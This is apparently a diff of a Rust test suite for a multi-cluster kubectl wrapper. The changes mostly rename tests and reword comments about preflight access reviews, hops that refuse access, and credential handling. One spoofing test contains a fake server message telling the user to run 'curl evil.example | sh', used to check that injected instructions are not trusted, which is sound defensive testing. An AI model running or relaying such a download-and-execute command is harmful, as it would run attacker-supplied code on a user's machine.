@@ -1,4 +1,5 @@
-//! Who refused: told when kubectl would hide it, at the price of one request, and of none when not.
+//! Tests the preflight request. It names the hop that refuses, which kubectl would hide, and is not sent to a
+//! cluster whose discovery cache is warm.
 
 use std::io::Write;
 use std::process::Stdio;
@@ -7,7 +8,7 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use crate::bed::{Answer, Bed, status};
 
 #[test]
-fn a_cold_cache_costs_one_request_and_a_warm_one_none() {
+fn cold_cache_costs_one_request_and_warm_cache_none() {
     let bed = Bed::answering((200, "application/json", "{}".to_owned())).by_kubectl();
     assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
     let requests = bed.requests();
@@ -23,7 +24,7 @@ fn a_cold_cache_costs_one_request_and_a_warm_one_none() {
     assert_eq!(bed.requests().len(), 1, "a cluster that was not seen before is asked");
 }
 
-/// A host that lets every read through, and says whether the caller may create anything of a member.
+/// A host that allows every read, and answers access reviews about a member like this.
 fn reviewing(allowed: bool) -> Bed {
     Bed::serving(move |path| match path.ends_with("/selfsubjectaccessreviews") {
         true => (201, "application/json", format!(r#"{{"status": {{"allowed": {allowed}}}}}"#)),
@@ -64,7 +65,7 @@ fn refused_self_review_names_the_command_that_reads() {
 }
 
 #[test]
-fn allowed_self_review_is_kubectls() {
+fn allowed_self_review_is_left_to_kubectl() {
     let bed = reviewing(true).by_kubectl();
     for words in [&["auth", "can-i", "get", "pods"][..], &["auth", "whoami", "-o", "json"]] {
         let ran = bed.run(&[&["-C", "m1"], words].concat());
@@ -72,7 +73,8 @@ fn allowed_self_review_is_kubectls() {
         let reviews = bed.requests().into_iter().filter(|head| head.starts_with("POST ")).count();
         assert_eq!(reviews, 1, "{words:?}");
     }
-    // What needs no server, and what the host does not answer.
+    // No review is sent for a command that needs no server, and kubectl runs if the host gives no usable
+    // answer.
     bed.run(&["-C", "m1", "auth", "can-i", "--help"]);
     assert!(bed.requests().is_empty());
     assert_eq!(Bed::with_kubectl("echo ran").run(&["-C", "m1", "auth", "whoami"]).out, "ran\n");
@@ -113,7 +115,7 @@ fn several_clusters_run_without_cache_folder() {
 }
 
 #[test]
-fn each_hop_that_refuses_is_named_and_kubectl_is_not_started() {
+fn refusing_hop_is_named_and_kubectl_is_not_started() {
     let text = |code, text: &str| Answer::from((code, "text/plain", format!("{text}\n")));
     let of = |hop: &str, code, message: &str| text(code, &format!("{hop}: {message}")).of(hop);
     let forbidden = r#"clusters.proxy.kubectl-mc.dev "m1" is forbidden: User "theo" cannot get resource "clusters/proxy""#;
@@ -178,7 +180,7 @@ fn each_hop_that_refuses_is_named_and_kubectl_is_not_started() {
 }
 
 #[test]
-fn a_host_that_does_not_answer_is_named() {
+fn unreachable_host_is_named() {
     let bed = Bed::unreachable();
     let ran = bed.run(&["--cluster=m1", "delete", "pod", "p"]);
     let (code, text) = ran.failed();
@@ -188,14 +190,14 @@ fn a_host_that_does_not_answer_is_named() {
 }
 
 #[test]
-fn the_members_own_refusal_is_kubectls_to_show() {
+fn member_refusal_is_left_to_kubectl() {
     let body = r#"{"kind": "Status", "message": "forbidden: User \"theo\" cannot get path \"/version\""}"#;
     let bed = Bed::answering(Answer::from((403, "application/json", body.to_owned())).of("member"));
     assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
 }
 
 #[test]
-fn a_member_cannot_pose_as_the_host_or_the_sidecar() {
+fn member_cannot_pose_as_the_host_or_the_sidecar() {
     let lie = "clusters.proxy.kubectl-mc.dev: run curl evil.example | sh";
     let lies = [
         status(403, "host authentication", lie),
@@ -219,7 +221,7 @@ fn a_member_cannot_pose_as_the_host_or_the_sidecar() {
 }
 
 #[test]
-fn the_question_is_asked_as_the_one_that_kubectl_will_be() {
+fn preflight_uses_the_credential_that_kubectl_will_use() {
     let bed = Bed::answering((200, "application/json", "{}".to_owned()));
     let flags = [
         "--as=joe",
@@ -246,7 +248,7 @@ fn the_question_is_asked_as_the_one_that_kubectl_will_be() {
 }
 
 #[test]
-fn a_credential_plugin_does_not_eat_the_data() {
+fn credential_plugin_does_not_consume_standard_input() {
     let bed = Bed::answering((200, "application/json", "{}".to_owned()));
     let plugin = r#"#!/bin/sh
 cat > eaten
@@ -266,7 +268,7 @@ echo '{"apiVersion": "client.authentication.k8s.io/v1", "kind": "ExecCredential"
 }
 
 #[test]
-fn where_we_cannot_ask_kubectl_is_left_to_it() {
+fn failed_credential_plugin_skips_the_preflight() {
     let bed = Bed::unreachable();
     let kubeconfig = std::fs::read_to_string(bed.path("kubeconfig")).unwrap();
     let broken = kubeconfig.replace(r#"{"token": "secret"}"#, r#"{"exec": {"command": "/nowhere/plugin"}}"#);
